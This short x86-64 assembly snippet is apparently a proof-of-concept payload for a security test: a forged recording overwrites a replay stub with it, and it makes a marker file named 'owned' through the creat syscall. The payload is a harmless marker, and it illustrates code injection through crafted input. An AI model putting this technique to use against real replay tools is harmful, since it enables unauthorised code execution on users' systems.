# What the program reads; a forged recording has it written over the replay stub. It makes the file "owned".
	mov $85, %eax
	lea path(%rip), %rdi
	mov $0600, %esi
	syscall
	int3
path:	.asciz "owned"
	.balign 64
